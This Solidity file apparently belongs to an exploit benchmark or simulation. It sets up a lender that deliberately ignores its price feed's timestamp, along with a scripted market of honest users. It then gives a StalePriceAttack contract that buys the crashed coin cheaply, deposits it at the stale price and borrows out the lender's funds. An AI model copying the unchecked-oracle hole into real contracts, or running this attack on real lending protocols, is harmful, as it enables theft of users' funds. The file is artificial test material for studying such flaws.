// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./SpotOracle.sol";

/// A feed that nobody has fed for long.
contract Feed {
    address public immutable keeper;
    int256 public latestAnswer;
    uint256 public updatedAt;

    constructor(int256 answer) {
        (keeper, latestAnswer, updatedAt) = (msg.sender, answer, block.timestamp);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, latestAnswer, updatedAt, updatedAt, 1);
    }
}

/// Does not look at the feed's clock.
contract FeedLender is SpotLender {
    Feed public immutable feed;

    constructor(IERC20 coin_, IERC20 cash_, Pair pair_, Feed feed_) SpotLender(coin_, cash_, pair_) {
        feed = feed_;
    }

    function price() public view override returns (uint256) {
        return uint256(feed.latestAnswer());
    }
}

/// The coin is worth a twentieth of what the feed still says; the market, and the plan, know.
contract StalePriceScene is Scene {
    Token public usd;
    Token public coin = new Token("FALLEN", 18);
    Pair public pair;
    FeedLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "FALLEN", 18, 50_000);
        pair = Pairs.open(coin, usd, 20_000_000e18, 1_000_000e18);
        lender = new FeedLender(IERC20(address(coin)), IERC20(address(usd)), pair, new Feed(1e18));
        usd.mint(address(lender), 2_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(usd)), 200_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(coin));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(lender));
        _arm(coin, users, 50_000e18, address(lender));
        _arm(usd, users, 0, address(pair));
        _arm(coin, users, 0, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        uint256 amount = _amount(dice, 100e18, 2_000e18);
        uint256 held = lender.collateral(who);
        uint256 owed = lender.debt(who);
        if (kind == 0) {
            (uint112 r0, uint112 r1,) = pair.getReserves();
            bool sell = uint256(r0) < uint256(r1) * 20;
            return (address(pair), 0, abi.encodeCall(Pair.trade, (sell, sell ? amount * 5 : amount / 4, who)));
        }
        // Honest people borrow against what it is worth.
        if (kind == 1 && held / 40 > owed + 1e18) return (address(lender), 0, abi.encodeCall(SpotLender.borrow, (held / 40 - owed)));
        if (kind == 2 && owed > 0) return (address(lender), 0, abi.encodeCall(SpotLender.repay, (owed)));
        if (kind == 3 && owed == 0 && held > 0) return (address(lender), 0, abi.encodeCall(SpotLender.withdraw, (held)));
        return (address(lender), 0, abi.encodeCall(SpotLender.deposit, (amount)));
    }
}

contract StalePriceAttack is Attack {
    FeedLender private immutable lender;
    Pair private immutable pair;
    IERC20 private immutable coin;

    constructor(StalePriceScene scene) Attack(scene) {
        (lender, pair, coin) = (scene.lender(), scene.pair(), IERC20(address(scene.coin())));
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        loanToken.approve(address(pair), type(uint256).max);
        coin.approve(address(lender), type(uint256).max);
        lender.deposit(pair.trade(false, loanAmount / count, address(this)));
        uint256 room = uint256(lender.room(address(this)));
        uint256 there = loot0.balanceOf(address(lender)) / (count - index);
        lender.borrow(room < there ? room : there);
    }
}
